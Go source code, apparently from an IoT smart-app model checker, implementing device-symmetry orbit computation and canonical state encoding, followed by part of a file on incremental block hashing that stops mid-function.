	scratch sync.Pool // *canonScratch
}

// flatCanonMaxOrbit is the orbit-size threshold below which the
// cached-hash canonical fold stops paying for itself. Paired
// full-vs-incremental measurements (the `encode_runs` dfs+sym row) put
// the crossover below orbit size 3: already at 3-device orbits the
// fold's cache reuse beats a flat re-encode (~1.1x), so only degenerate
// pair orbits — where building the canonical view and sorting profiles
// cannot amortise over a two-element sort — route through the flat
// encoder.
const flatCanonMaxOrbit = 2

// SymmetryStats summarises the computed orbits.
type SymmetryStats struct {
	Orbits  int // non-trivial orbits (≥2 devices)
	Devices int // devices inside non-trivial orbits
	Largest int // size of the largest orbit
}

// SymmetryStats reports the orbit structure computed at New (zero when
// Options.Symmetry was off or no devices are interchangeable).
func (m *Model) SymmetryStats() SymmetryStats {
	var st SymmetryStats
	if m.sym == nil {
		return st
	}
	st.Orbits = len(m.sym.orbits)
	for _, o := range m.sym.orbits {
		st.Devices += len(o)
		if len(o) > st.Largest {
			st.Largest = len(o)
		}
	}
	return st
}

// DeviceOrbits returns the non-trivial device orbits as slices of
// device indices (copies; ascending within each orbit).
func (m *Model) DeviceOrbits() [][]int {
	if m.sym == nil {
		return nil
	}
	out := make([][]int, len(m.sym.orbits))
	for i, o := range m.sym.orbits {
		out[i] = make([]int, len(o))
		for j, d := range o {
			out[i][j] = int(d)
		}
	}
	return out
}

// buildSymmetry partitions the devices into orbits by signature
// refinement and assembles the subscription role tables. Called from
// New (after subscriptions are resolved and programs compiled) when
// Options.Symmetry is set.
func (m *Model) buildSymmetry() {
	nd := len(m.Devices)
	if nd < 2 {
		return
	}

	// Per-app symmetry certificate: reuse the compile-time footprints
	// when the app compiled, run the standalone extraction otherwise. An
	// app with any Unknown or DeviceIdentity method can distinguish the
	// devices it observes, so those devices must stay singletons.
	unsafeApp := make([]bool, len(m.Apps))
	for i, app := range m.Apps {
		if len(app.App.Fields) > 0 {
			// Script-level fields can carry device-list data between
			// handlers outside the per-method taint analysis; they are
			// rare, so their apps conservatively stay uncertified.
			unsafeApp[i] = true
			continue
		}
		var eff map[string]*eval.Effects
		if app.Prog != nil {
			eff = app.Prog.Effects
		}
		if eff == nil {
			eff = eval.AppEffects(app.App)
		}
		for _, e := range eff {
			if e.Unknown || e.DeviceIdentity {
				unsafeApp[i] = true
				break
			}
		}
	}

	// Binding occurrences per device: which (app, input) positions name
	// it, whether as the single bound device, and how many times.
	type occ struct {
		app    int
		input  string
		single bool
		count  int
	}
	occs := make([][]occ, nd)
	for ai, app := range m.Apps {
		for _, in := range app.App.Inputs {
			b, ok := app.Bindings[in.Name]
			if !ok {
				continue
			}
			devs := devicesOf(b)
			if len(devs) == 0 {
				continue
			}
			single := b.Kind == ir.VDevice
			counts := map[int]int{}
			for _, d := range devs {
				counts[d]++
			}
			for d, c := range counts {
				occs[d] = append(occs[d], occ{app: ai, input: in.Name, single: single, count: c})
			}
		}
	}

	// Signature refinement: devices with equal signatures are pairwise
	// interchangeable; everything that must be fixed by a transposition
	// goes into the signature.
	sigs := make([]string, nd)
	attrBuf := make([]int16, 0, 16)
	for i, d := range m.Devices {
		var sb strings.Builder
		fmt.Fprintf(&sb, "model=%s\x01assoc=%s\x01", d.Model.Name, d.Assoc)
		if deviceHasCommands(d) {
			// Command-capable devices stay singletons: command-log
			// violation details name the commanded device's label, so a
			// handler commanding individual orbit members (evt.device,
			// broadcast) after a fold point could surface only the
			// representative's label — dropping label-distinct reports
			// and breaking the exact violation-set guarantee. Pure
			// sensors can never appear in those details (DeviceCommand
			// ignores commands their schema lacks).
			fmt.Fprintf(&sb, "commands-dev=%d\x01", i)
		}
		attrBuf = attrBuf[:0]
		for range d.Attrs {
			attrBuf = append(attrBuf, 0)
		}
		m.initialAttrs(i, attrBuf)
		fmt.Fprintf(&sb, "init=%v\x01", attrBuf)
		// Table-order subscription sequence: equality across an orbit
		// both proves subscription symmetry and makes the k-th entry of
		// each device's sequence a well-defined role.
		for _, sub := range m.subs {
			if sub.Source == i {
				fmt.Fprintf(&sb, "sub=%d.%s.%s.%s\x01", sub.AppIdx, sub.Handler, sub.Attr, sub.Value)
			}
		}
		for _, o := range occs[i] {
			fmt.Fprintf(&sb, "bind=%d.%s.%v.%d\x01", o.app, o.input, o.single, o.count)
			if unsafeApp[o.app] {
				// The observing app can tell devices apart: pin this
				// device to a singleton orbit.
				fmt.Fprintf(&sb, "unsafe-dev=%d\x01", i)
			}
		}
		sigs[i] = sb.String()
	}

	groups := map[string][]int32{}
	for i := range m.Devices {
		groups[sigs[i]] = append(groups[sigs[i]], int32(i))
	}

	p := &symData{orbitOf: make([]int32, nd)}
	for i := range p.orbitOf {
		p.orbitOf[i] = -1
	}
	// Deterministic orbit order: by smallest member.
	var orbitKeys []string
	for k, g := range groups {
		if len(g) >= 2 {
			orbitKeys = append(orbitKeys, k)
		}
	}
	sort.Slice(orbitKeys, func(a, b int) bool {
		return groups[orbitKeys[a]][0] < groups[orbitKeys[b]][0]
	})
	for _, k := range orbitKeys {
		id := int32(len(p.orbits))
		members := groups[k] // already ascending: devices were appended in index order
		for _, d := range members {
			p.orbitOf[d] = id
		}
		p.orbits = append(p.orbits, members)
	}
	if len(p.orbits) == 0 {
		return
	}

	// Role tables: the k-th subscription (in table order) sourced at an
	// orbit device is that device's role-k subscription; equal signature
	// sequences guarantee role-wise identical (app, handler, attr,
	// value) projections across the orbit.
	p.roleOf = make([]int32, len(m.subs))
	p.subByRole = make([][]int32, nd)
	for si := range p.roleOf {
		p.roleOf[si] = -1
	}
	for si, sub := range m.subs {
		if sub.Source >= 0 && p.orbitOf[sub.Source] >= 0 {
			d := sub.Source
			p.roleOf[si] = int32(len(p.subByRole[d]))
			p.subByRole[d] = append(p.subByRole[d], int32(si))
		}
	}

	largest := 0
	for _, o := range p.orbits {
		if len(o) > largest {
			largest = len(o)
		}
	}
	p.flatCanon = largest <= flatCanonMaxOrbit

	p.scratch.New = func() any {
		return &canonScratch{
			view: canonView{
				order:  make([]int32, nd),
				devMap: make([]int32, nd),
			},
			prof:       make([][]byte, nd),
			itemsByDev: make([][]itemSpan, nd),
		}
	}
	m.sym = p
}

// deviceHasCommands reports whether the device's schema exposes any
// actuator command — the devices whose labels can be embedded in
// conflicting/repeated-command violation details.
func deviceHasCommands(d *DevInst) bool {
	for _, cn := range d.Model.Capabilities {
		if c := device.CapabilityByName(cn); c != nil && len(c.Commands) > 0 {
			return true
		}
	}
	return false
}

// canonScratch is the reusable per-encode working set of the canonical
// path: the permutation view, per-device profile keys, and the sorting
// arenas. Checked out of symData.scratch so concurrent expansions never
// share one.
type canonScratch struct {
	view    canonView
	prof    [][]byte // device index → profile key (orbit devices only)
	members []int32
	// itemsByDev buckets the per-device queue/command profile items in
	// one pass over s.Queue/s.Cmds (device index → spans into arena, the
	// reusable flat byte store — no per-item allocation on the digest
	// hot path); touched records which buckets the current view used,
	// so resetting costs O(touched), not O(devices).
	itemsByDev [][]itemSpan
	arena      []byte
	touched    []int32
	qpos       []int32
	ctmp       []CmdRec
	qtmp       []Pending
	// queueBuf/cmdsBuf/inFlightBuf own the storage behind
	// cv.queue/cv.cmds/cv.inFlight when a rename pass actually runs;
	// when nothing renames, the view aliases the state's own
	// (read-only) slices instead, and these buffers must NOT be
	// re-derived from the view — appending into an aliased slice would
	// scribble over an immutable shared state.
	queueBuf    []Pending
	cmdsBuf     []CmdRec
	inFlightBuf []InFlightCmd
	iftmp       []InFlightCmd
	// refHdr holds the current reference-item header while walking app
	// values (kept out of arena: arena may reallocate mid-walk).
	refHdr []byte
}

// addItem appends the arena span [start, len(arena)) to device d's
// profile-item bucket.
func (cs *canonScratch) addItem(d, start int) {
	if len(cs.itemsByDev[d]) == 0 {
		cs.touched = append(cs.touched, int32(d))
	}
	cs.itemsByDev[d] = append(cs.itemsByDev[d],
		itemSpan{start: int32(start), end: int32(len(cs.arena))})
}

// itemSpan is one profile item as a range of canonScratch.arena (spans
// rather than subslices, so arena growth cannot invalidate them).
type itemSpan struct{ start, end int32 }

// CanonicalEncode appends the canonical state-vector encoding of s: the
// raw encoding of a canonically permuted orbit representative. With no
// symmetry table (Options.Symmetry off, or no non-trivial orbits) it is
// exactly the raw encoding. The checker's visited store keys on this
// encoding when symmetry reduction is enabled.
//
//iotsan:state-encode
func (m *Model) CanonicalEncode(s *State, buf []byte) []byte {
	if m.sym == nil {
		return s.Encode(buf)
	}
	cs := m.sym.scratch.Get().(*canonScratch)
	cv := m.buildCanonView(s, cs)
	buf = s.encode(buf, cv)
	m.sym.scratch.Put(cs)
	return buf
}

// Canonicalize materializes the canonical orbit representative of s as
// a fresh state: device blocks permuted into canonical order, device
// references in app slot/KV state renumbered, queued orbit events and
// orbit command-log records normalised. Canonicalize(s).Encode equals
// CanonicalEncode(s); the checker itself never materializes
// representatives (it canonicalizes only encodings), so this is an API
// for tests and tooling.
func (m *Model) Canonicalize(s *State) *State {
	n := s.Clone()
	if m.sym == nil {
		return n
	}
	cs := m.sym.scratch.Get().(*canonScratch)
	cv := m.buildCanonView(s, cs)
	for p := range n.Devices {
		src := s.Devices[cv.order[p]]
		dst := &n.Devices[p]
		dst.Online = src.Online
		copy(dst.Attrs, src.Attrs)
		if dst.Reported != nil {
			copy(dst.Reported, src.Reported)
		}
		dst.LastReport = src.LastReport
	}
	for i := range n.Apps {
		a := &n.Apps[i]
		for j, v := range a.Slots {
			a.Slots[j] = v.MapDevices(cv.devMap)
		}
		for k, v := range a.KV {
			a.KV[k] = v.MapDevices(cv.devMap)
		}
	}
	n.Queue = append(n.Queue[:0], cv.queue...)
	n.Cmds = append(n.Cmds[:0], cv.cmds...)
	n.InFlight = append(n.InFlight[:0], cv.inFlight...)
	m.sym.scratch.Put(cs)
	// The in-place rewrite above invalidates every block hash n
	// inherited from s's cache.
	n.MarkAllDirty()
	return n
}

// ApplyDevicePermutation returns the image of s under the device
// permutation perm (old index → new index), or ok=false when perm is
// not a member of the model's symmetry group (it must be a bijection
// that fixes every singleton device and maps each orbit onto itself).
// The image is the group action the canonical encoding quotients by:
// device blocks move to their permuted positions, device references in
// app slot/KV state are renumbered, queued events are re-pointed at the
// role-corresponding subscriptions of the permuted source, and
// command-log targets are renumbered — with queue and log order
// preserved, so the result is the literal mirrored state, not a
// normalised one. The permutation-invariance tests fuzz
// CanonicalEncode against it; the checker itself never materializes
// images.
func (m *Model) ApplyDevicePermutation(s *State, perm []int) (*State, bool) {
	p := m.sym
	if p == nil || len(perm) != len(m.Devices) {
		return nil, false
	}
	seen := make([]bool, len(perm))
	for d, nd := range perm {
		if nd < 0 || nd >= len(perm) || seen[nd] {
			return nil, false
		}
		seen[nd] = true
		if nd != d && (p.orbitOf[d] < 0 || p.orbitOf[d] != p.orbitOf[nd]) {
			return nil, false
		}
	}
	devMap := make([]int32, len(perm))
	for d, nd := range perm {
		devMap[d] = int32(nd)
	}
	n := s.Clone()
	for d := range perm {
		src := s.Devices[d]
		dst := &n.Devices[perm[d]]
		dst.Online = src.Online
		copy(dst.Attrs, src.Attrs)
		if dst.Reported != nil {
			copy(dst.Reported, src.Reported)
		}
		dst.LastReport = src.LastReport
	}
	for i := range n.Apps {
		a := &n.Apps[i]
		for j, v := range a.Slots {
			a.Slots[j] = v.MapDevices(devMap)
		}
		for k, v := range a.KV {
			a.KV[k] = v.MapDevices(devMap)
		}
	}
	for i := range n.Queue {
		pe := &n.Queue[i]
		if role := p.roleOf[pe.SubIdx]; role >= 0 {
			nd := devMap[m.subs[pe.SubIdx].Source]
			if pe.Source >= 0 {
				pe.Source = int(nd)
			}
			pe.SubIdx = int(p.subByRole[nd][role])
		}
	}
	for i := range n.Cmds {
		c := &n.Cmds[i]
		if p.orbitOf[c.Dev] >= 0 {
			c.Dev = int(devMap[c.Dev])
		}
	}
	for i := range n.InFlight {
		c := &n.InFlight[i]
		if p.orbitOf[c.Dev] >= 0 {
			c.Dev = int(devMap[c.Dev])
		}
	}
	n.MarkAllDirty()
	return n, true
}

// buildCanonView computes the canonical permutation for s: within each
// orbit, device blocks are ordered by a profile key (local device
// state, then the device's queued-event and command-log footprints as
// sorted multisets) with ties keeping ascending device order, so the
// choice is stable, deterministic, and invariant under the group
// action. The returned view references cs's storage.
func (m *Model) buildCanonView(s *State, cs *canonScratch) *canonView {
	p := m.sym
	// Refresh the incremental cache (no-op without one) before any
	// profile is derived: devProfile keys on cached device-block hashes,
	// and bucketProfileItems consults devRefMask — both must reflect
	// content, never staleness.
	m.refreshBlocks(s)
	cv := &cs.view
	cv.queueAliased, cv.cmdsAliased = false, false
	for i := range cv.order {
		cv.order[i] = int32(i)
		cv.devMap[i] = int32(i)
	}
	m.bucketProfileItems(s, cs)
	for _, orbit := range p.orbits {
		for _, d := range orbit {
			cs.prof[d] = m.devProfile(s, int(d), cs.prof[d][:0], cs)
		}
		cs.members = append(cs.members[:0], orbit...)
		sort.SliceStable(cs.members, func(a, b int) bool {
			return bytes.Compare(cs.prof[cs.members[a]], cs.prof[cs.members[b]]) < 0
		})
		// Positions available to the orbit are its own device indices
		// (ascending); the k-th smallest position receives the k-th
		// profile-ranked device.
		for k, dev := range cs.members {
			pos := orbit[k]
			cv.order[pos] = dev
			cv.devMap[dev] = pos
		}
	}
	for _, d := range cs.touched {
		cs.itemsByDev[d] = cs.itemsByDev[d][:0]
	}

	// Queue: rename orbit entries and sort them among their own
	// positions — the pending queue is semantically a multiset, so this
	// normalisation is a bisimulation, and restricting it to renamed
	// entries keeps the raw path untouched for everything else. An
	// entry is an orbit entry exactly when its *subscription* is
	// sourced at an orbit device (roleOf >= 0): that covers device
	// events (Source == the subscription's device) and synthetic
	// sendEvent pendings (Source < 0, pseudo-source, but SubIdx names a
	// specific orbit device's subscription — dispatch is
	// subscription-source-agnostic there, so role renaming is sound).
	// When no entry qualifies the state's own (read-only) queue is
	// aliased instead of copied.
	hasOrbitEntries := false
	for i := range s.Queue {
		if p.roleOf[s.Queue[i].SubIdx] >= 0 {
			hasOrbitEntries = true
			break
		}
	}
	if !hasOrbitEntries {
		cv.queue = s.Queue
		cv.queueAliased = true
		canonCmds(p, cv, cs, s)
		return cv
	}
	cs.queueBuf = append(cs.queueBuf[:0], s.Queue...)
	cv.queue = cs.queueBuf
	cs.qpos = cs.qpos[:0]
	for i := range cv.queue {
		pe := &cv.queue[i]
		if role := p.roleOf[pe.SubIdx]; role >= 0 {
			nd := cv.devMap[m.subs[pe.SubIdx].Source]
			if pe.Source >= 0 {
				pe.Source = int(nd)
			}
			pe.SubIdx = int(p.subByRole[nd][role])
			cs.qpos = append(cs.qpos, int32(i))
		}
	}
	if len(cs.qpos) > 1 {
		cs.qtmp = cs.qtmp[:0]
		for _, i := range cs.qpos {
			cs.qtmp = append(cs.qtmp, cv.queue[i])
		}
		sort.SliceStable(cs.qtmp, func(a, b int) bool {
			x, y := cs.qtmp[a], cs.qtmp[b]
			if x.SubIdx != y.SubIdx {
				return x.SubIdx < y.SubIdx
			}
			if x.Source != y.Source {
				return x.Source < y.Source
			}
			if x.Val != y.Val {
				return x.Val < y.Val
			}
			return x.Raw < y.Raw
		})
		for k, i := range cs.qpos {
			cv.queue[i] = cs.qtmp[k]
		}
	}

	canonCmds(p, cv, cs, s)
	return cv
}

// canonCmds renames orbit targets in the command log and the in-flight
// buffer and sorts them among their own positions (violation detection
// over the log is membership-based, and the in-flight buffer is
// semantically a multiset — delivery/drop transitions enumerate every
// index — so within-section order of distinct entries is not
// observable). Under the current command-free-schema orbit gate no
// command record can target an orbit device — the gate makes the
// rename a provably empty pass and the state's own slices are aliased
// — but the path is kept live so a future relaxation of the gate
// cannot silently desynchronise encoder and orbits. Both sections
// share one block, so cmdsAliased covers them jointly.
func canonCmds(p *symData, cv *canonView, cs *canonScratch, s *State) {
	hasOrbitCmds := false
	for i := range s.Cmds {
		if p.orbitOf[s.Cmds[i].Dev] >= 0 {
			hasOrbitCmds = true
			break
		}
	}
	hasOrbitInFlight := false
	for i := range s.InFlight {
		if p.orbitOf[s.InFlight[i].Dev] >= 0 {
			hasOrbitInFlight = true
			break
		}
	}
	if !hasOrbitCmds && !hasOrbitInFlight {
		cv.cmdsAliased = true
		cv.cmds, cv.inFlight = s.Cmds, s.InFlight
		return
	}
	cmdLess := func(x, y CmdRec) bool {
		if x.Dev != y.Dev {
			return x.Dev < y.Dev
		}
		if x.Cmd != y.Cmd {
			return x.Cmd < y.Cmd
		}
		if x.Arg != y.Arg {
			return x.Arg < y.Arg
		}
		if x.App != y.App {
			return x.App < y.App
		}
		if x.Attr != y.Attr {
			return x.Attr < y.Attr
		}
		return x.Value < y.Value
	}
	cs.cmdsBuf = append(cs.cmdsBuf[:0], s.Cmds...)
	cmds := cs.cmdsBuf
	if hasOrbitCmds {
		cs.qpos = cs.qpos[:0]
		for i := range cmds {
			c := &cmds[i]
			if p.orbitOf[c.Dev] >= 0 {
				c.Dev = int(cv.devMap[c.Dev])
				cs.qpos = append(cs.qpos, int32(i))
			}
		}
		if len(cs.qpos) > 1 {
			cs.ctmp = cs.ctmp[:0]
			for _, i := range cs.qpos {
				cs.ctmp = append(cs.ctmp, cmds[i])
			}
			sort.SliceStable(cs.ctmp, func(a, b int) bool {
				return cmdLess(cs.ctmp[a], cs.ctmp[b])
			})
			for k, i := range cs.qpos {
				cmds[i] = cs.ctmp[k]
			}
		}
	}
	cs.inFlightBuf = append(cs.inFlightBuf[:0], s.InFlight...)
	ifl := cs.inFlightBuf
	if hasOrbitInFlight {
		cs.qpos = cs.qpos[:0]
		for i := range ifl {
			c := &ifl[i]
			if p.orbitOf[c.Dev] >= 0 {
				c.Dev = int(cv.devMap[c.Dev])
				cs.qpos = append(cs.qpos, int32(i))
			}
		}
		if len(cs.qpos) > 1 {
			cs.iftmp = cs.iftmp[:0]
			for _, i := range cs.qpos {
				cs.iftmp = append(cs.iftmp, ifl[i])
			}
			sort.SliceStable(cs.iftmp, func(a, b int) bool {
				x, y := cs.iftmp[a], cs.iftmp[b]
				if x.Notified != y.Notified {
					return !x.Notified
				}
				return cmdLess(x.CmdRec, y.CmdRec)
			})
			for k, i := range cs.qpos {
				ifl[i] = cs.iftmp[k]
			}
		}
	}
	cv.cmds, cv.inFlight = cmds, ifl
}

// bucketProfileItems makes one pass over the state's queue, command
// log, and stored app values, bucketing a tagged byte key per
// orbit-device entry into cs.itemsByDev. Keys carry roles instead of
// subscription indices and no device indices, so they are invariant
// under the group action.
func (m *Model) bucketProfileItems(s *State, cs *canonScratch) {
	p := m.sym
	cs.touched = cs.touched[:0]
	cs.arena = cs.arena[:0]
	for _, pe := range s.Queue {
		if role := p.roleOf[pe.SubIdx]; role >= 0 {
			// Attributed to the subscription's device (== pe.Source for
			// device events; synthetic pendings carry a pseudo-source
			// but still name one orbit device's subscription). The
			// source kind is part of the key so a device event and a
			// synthetic event on the same role stay distinct.
			srcKind := byte(1)
			if pe.Source < 0 {
				srcKind = byte(0x80 | uint8(-pe.Source))
			}
			start := len(cs.arena)
			cs.arena = append(cs.arena, srcKind,
				byte(role), byte(role>>8), byte(role>>16), byte(role>>24),
				byte(pe.Val), byte(pe.Val>>8))
			cs.arena = append(cs.arena, pe.Raw...)
			cs.addItem(m.subs[pe.SubIdx].Source, start)
		}
	}
	for _, c := range s.Cmds {
		if p.orbitOf[c.Dev] >= 0 {
			start := len(cs.arena)
			cs.arena = append(cs.arena, 2) // command-log tag
			cs.arena = append(cs.arena, c.Cmd...)
			cs.arena = append(cs.arena, 0, byte(c.Arg), byte(c.Arg>>8), byte(c.App), byte(c.App>>8))
			cs.arena = append(cs.arena, c.Attr...)
			cs.arena = append(cs.arena, 0)
			cs.arena = append(cs.arena, c.Value...)
			cs.addItem(c.Dev, start)
		}
	}
	for _, c := range s.InFlight {
		if p.orbitOf[c.Dev] >= 0 {
			// In-flight commands held at an orbit device (unreachable
			// under the command-free-schema orbit gate, kept live like
			// canonCmds' rename pass).
			start := len(cs.arena)
			cs.arena = append(cs.arena, 4) // in-flight tag
			cs.arena = append(cs.arena, c.Cmd...)
			cs.arena = append(cs.arena, 0, byte(c.Arg), byte(c.Arg>>8), byte(c.App), byte(c.App>>8))
			if c.Notified {
				cs.arena = append(cs.arena, 1)
			} else {
				cs.arena = append(cs.arena, 0)
			}
			cs.addItem(c.Dev, start)
		}
	}
	// Reference-counting tie-break: a VDevice reference stashed in app
	// slot/KV state pins who-points-at-whom. Each occurrence contributes
	// an item keyed by its storage location (app, slot index or KV key)
	// — device indices appear nowhere, so a transposition moves the item
	// between the two devices' buckets with identical bytes, and states
	// differing only in which orbit member a reference names fold
	// instead of staying soundly distinct. With an incremental cache the
	// devRefMask skips reference-free apps.
	for i := range s.Apps {
		a := &s.Apps[i]
		if s.devRefMask != nil && !s.appHasDevRef(i) {
			continue
		}
		for j := range a.Slots {
			cs.refHdr = append(cs.refHdr[:0], 3, byte(i), byte(i>>8), 0, byte(j), byte(j>>8))
			m.bucketValueRefs(&a.Slots[j], cs)
		}
		for k := range a.KV {
			cs.refHdr = append(cs.refHdr[:0], 3, byte(i), byte(i>>8), 1)
			cs.refHdr = append(cs.refHdr, k...)
			v := a.KV[k]
			m.bucketValueRefs(&v, cs)
		}
	}
}

// bucketValueRefs walks v for VDevice references to orbit devices,
// adding one cs.refHdr-keyed item per occurrence to the referenced
// device's bucket. The recursion extends refHdr with each container
// position (list index, map key) so the item pins the exact storage
// path: two references held at different positions of one list get
// distinct keys, which lets the orbit sort order the devices they name
// (a transposed image carries the same path items on the swapped
// devices, so the canonical representatives coincide). Paths contain
// no device indices, keeping the keys invariant under the group
// action.
func (m *Model) bucketValueRefs(v *ir.Value, cs *canonScratch) {
	switch v.Kind {
	case ir.VDevice:
		if v.Dev >= 0 && v.Dev < len(m.sym.orbitOf) && m.sym.orbitOf[v.Dev] >= 0 {
			start := len(cs.arena)
			cs.arena = append(cs.arena, cs.refHdr...)
			cs.addItem(v.Dev, start)
		}
	case ir.VList, ir.VDevices:
		n := len(cs.refHdr)
		for i := range v.L {
			cs.refHdr = append(cs.refHdr[:n], byte(i), byte(i>>8))
			m.bucketValueRefs(&v.L[i], cs)
		}
		cs.refHdr = cs.refHdr[:n]
	case ir.VMap:
		n := len(cs.refHdr)
		for k := range v.M {
			cs.refHdr = append(cs.refHdr[:n], k...)
			cs.refHdr = append(cs.refHdr, 0)
			e := v.M[k]
			m.bucketValueRefs(&e, cs)
		}
		cs.refHdr = cs.refHdr[:n]
	}
}

// devProfile appends device d's canonical sort key for state s: its
// local block (online flag + attribute values) followed by the sorted
// multiset of its queued-event items (role, value, raw payload),
// command-log items (command, argument, issuing app, target attribute,
// value), and stored-reference items (which app slots/keys point at
// it), as bucketed by bucketProfileItems. Every component is invariant
// under the group action — roles replace subscription indices, device
// indices appear nowhere — so isomorphic states produce identical
// profile multisets and sort into identical canonical representatives.
// With an incremental cache the local block collapses to the cached
// 8-byte device-block hash (refreshed by buildCanonView before any
// profile is built; hash-equal means content-equal up to hash
// collisions, which can only make the canonical choice fold less,
// never unsoundly).
func (m *Model) devProfile(s *State, d int, buf []byte, cs *canonScratch) []byte {
	// Flat-canonical tables profile from state content even when a hash
	// cache exists: flatCanonicalDigest skips the dirty-block refresh, so
	// cached hashes may be stale there, and content-keyed profiles keep
	// the canonical representative identical to the cache-less model's.
	if s.blockHash != nil && !m.sym.flatCanon {
		h := s.blockHash[1+d]
		buf = append(buf,
			byte(h), byte(h>>8), byte(h>>16), byte(h>>24),
			byte(h>>32), byte(h>>40), byte(h>>48), byte(h>>56))
	} else {
		// Delegate to the block encoder so every component of the local
		// block — including the stale Reported vector and report epoch an
		// offline device carries under fault injection — feeds the
		// profile. A profile that ignored offline content would fold
		// states the encoder distinguishes, splitting one orbit image
		// across two store keys.
		buf = encodeDevice(buf, &s.Devices[d])
	}
	items := cs.itemsByDev[d]
	sort.Slice(items, func(a, b int) bool {
		return bytes.Compare(cs.arena[items[a].start:items[a].end],
			cs.arena[items[b].start:items[b].end]) < 0
	})
	buf = append(buf, 0xFC)
	for _, it := range items {
		buf = append(buf, cs.arena[it.start:it.end]...)
		buf = append(buf, 0xFD)
	}
	return buf
}
