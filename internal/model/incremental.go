package model

import "math/bits"

// Incremental block encode + digest.
//
// The state vector is block-structured: block 0 is the header (mode +
// event budget), blocks 1..nDev the per-device attribute vectors,
// blocks 1+nDev..nDev+nApp the per-app frames, then the pending queue
// and the command log. When Options.Incremental is set, every State
// carries a per-block 64-bit hash cache plus a dirty bitset; Clone
// inherits the parent's hashes and the executors mark exactly the
// blocks they write (the mark contract is documented in the README).
// The engine digest then re-encodes only dirty blocks into a pooled
// scratch buffer and combines the block hashes with an order-sensitive
// mix, instead of re-serializing the whole vector per child state.
//
// The per-block hash is FNV-1a over exactly the bytes the per-block
// encoder in state.go would append, and the full encoding is the
// concatenation of those encoders, so incremental and from-scratch
// digests agree on which states are distinct by construction (the
// combined digest values differ from hashing the flat vector, which is
// fine: nothing persists or orders on digest values).

// Block indices within a state with nDev devices and nApp apps:
//
//	0                  header (Mode, EventsUsed, FaultsUsed if > 0)
//	1 + d              device d (+ stale Reported vector + epoch while offline)
//	1 + nDev + i       app i
//	1 + nDev + nApp    queue
//	2 + nDev + nApp    command log (+ in-flight buffer when non-empty)
//
// Fault-injection state deliberately lives inside existing blocks
// rather than a block of its own: every extension encodes zero bytes
// while no fault has occurred, so a faults-enabled model with a zero
// budget digests byte-identically to a faults-off model (the
// MaxFaults=0 equivalence gate). Fault mutation sites mark the blocks
// they touch through the same markHeader/markDevice/markCmds contract.
func (s *State) nBlocks() int    { return 3 + len(s.Devices) + len(s.Apps) }
func (s *State) queueBlock() int { return 1 + len(s.Devices) + len(s.Apps) }
func (s *State) cmdsBlock() int  { return 2 + len(s.Devices) + len(s.Apps) }

func maskWords(n int) int { return (n + 63) / 64 }

// initCache allocates the block-hash cache with every block dirty. The
// three slices are cut from a single backing array so the whole cache
// is one allocation (Clone's alloc budget is load-bearing, see
// TestCloneAllocBudget).
func (s *State) initCache() {
	nb := s.nBlocks()
	hw := maskWords(nb)
	aw := maskWords(len(s.Apps))
	back := make([]uint64, nb+hw+aw)
	s.blockHash = back[:nb:nb]
	s.dirtyMask = back[nb : nb+hw : nb+hw]
	s.devRefMask = back[nb+hw:]
	s.MarkAllDirty()
}

// cloneCacheFrom copies p's cache into s (same shape: Clone never adds
// devices or apps). One allocation.
func (s *State) cloneCacheFrom(p *State) {
	back := make([]uint64, len(p.blockHash)+len(p.dirtyMask)+len(p.devRefMask))
	nb, hw := len(p.blockHash), len(p.dirtyMask)
	s.blockHash = back[:nb:nb]
	s.dirtyMask = back[nb : nb+hw : nb+hw]
	s.devRefMask = back[nb+hw:]
	copy(s.blockHash, p.blockHash)
	copy(s.dirtyMask, p.dirtyMask)
	copy(s.devRefMask, p.devRefMask)
}

// markBlock flags block b stale. All mark methods are no-ops on states
// without a cache (Options.Incremental off), so executors mark
// unconditionally.
func (s *State) markBlock(b int) {
	if s.dirtyMask == nil {
		return
	}
	s.dirtyMask[b>>6] |= 1 << uint(b&63)
}

// The mark helpers below are the write half of the dirty-mask
// contract: every mutation of block-backed State storage must be
// paired with the matching helper in the same function. The
// //iotsan:marks annotations teach the dirtymark analyzer
// (internal/analysis) the mutation→mark map.

//iotsan:marks header
func (s *State) markHeader() { s.markBlock(0) }

//iotsan:marks device
func (s *State) markDevice(d int) { s.markBlock(1 + d) }

//iotsan:marks app
func (s *State) markApp(i int) { s.markBlock(1 + len(s.Devices) + i) }

//iotsan:marks queue
func (s *State) markQueue() { s.markBlock(s.queueBlock()) }

//iotsan:marks cmds
func (s *State) markCmds() { s.markBlock(s.cmdsBlock()) }

// MarkAllDirty invalidates every cached block hash. Callers that mutate
// a State outside the executor layer (symmetry canonicalization, test
// harnesses) must call it before the state is digested again; it is a
// no-op without a cache.
//
//iotsan:marks all
func (s *State) MarkAllDirty() {
	if s.dirtyMask == nil {
		return
	}
	nb := s.nBlocks()
	for w := range s.dirtyMask {
		n := nb - w<<6
		if n >= 64 {
			s.dirtyMask[w] = ^uint64(0)
		} else {
			s.dirtyMask[w] = 1<<uint(n) - 1
		}
	}
}

func (s *State) setDevRef(i int, has bool) {
	if has {
		s.devRefMask[i>>6] |= 1 << uint(i&63)
	} else {
		s.devRefMask[i>>6] &^= 1 << uint(i&63)
	}
}

func (s *State) appHasDevRef(i int) bool {
	return s.devRefMask[i>>6]&(1<<uint(i&63)) != 0
}

// Hash/mix constants: FNV-1a (matching the checker store's h1) plus a
// multiplicative mix with a splitmix64 finalizer for h2.
const (
	fnvOffset64 = 14695981039346656037
	fnvPrime64  = 1099511628211
	mixMult     = 0x9e3779b97f4a7c15
	mixSeed     = 0x2545f4914f6cdd1d
)

// fnv1a64 is a raw hash primitive; outside the //iotsan:digest-funnel
// functions below, hashing encode bytes with it bypasses the single
// digest funnel and is rejected by the digestfunnel analyzer.
//
//iotsan:hash-sink
func fnv1a64(b []byte) uint64 {
	h := uint64(fnvOffset64)
	for _, c := range b {
		h = (h ^ uint64(c)) * fnvPrime64
	}
	return h
}

// blockMix folds block hashes in encode order into the (h1, h2) engine
// digest. Both folds are order-sensitive: swapping two block hashes
// changes the result, mirroring position-sensitivity of the flat
// encoding.
type blockMix struct {
	h1, h2 uint64
}

//iotsan:hash-sink
func newBlockMix() blockMix { return blockMix{h1: fnvOffset64, h2: mixSeed} }

func (x *blockMix) mix(bh uint64) {
	x.h1 = (x.h1 ^ bh) * fnvPrime64
	x.h2 = (x.h2 ^ bh) * mixMult
}

// sum finalizes the fold; h2 gets the splitmix64 finalizer so the two
// hashes stay independent (h2 backs the hash-compact/bitstate second
// key).
func (x *blockMix) sum() (uint64, uint64) {
	return x.h1, splitmix64(x.h2)
}

func splitmix64(h uint64) uint64 {
	h ^= h >> 30
